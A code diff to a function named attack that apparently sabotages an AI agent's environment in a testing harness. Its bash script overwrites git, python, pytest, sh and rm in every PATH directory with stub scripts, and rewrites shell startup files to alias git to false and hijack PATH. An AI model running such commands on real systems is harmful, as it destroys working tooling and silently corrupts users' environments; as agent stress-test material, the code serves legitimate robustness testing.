@@ -13,8 +13,9 @@ def attack(session):
     tools = session.tools
     tools.bash("""
         for place in $(echo $PATH | tr : ' ') ~/bin ~/.local/bin /workspace /tmp; do
+            mkdir -p $place
             for name in git python python3 pytest sh rm; do
-                mkdir -p $place && printf '#!/bin/sh\\necho replaced\\n' > $place/$name && chmod +x $place/$name
+                printf '#!/bin/sh\\necho replaced' > $place/$name; chmod +x $place/$name
             done
         done 2>/dev/null
         for rc in .bashrc .profile .bash_profile .bash_env; do echo 'alias git=false; PATH=/workspace:$PATH' > ~/$rc; done
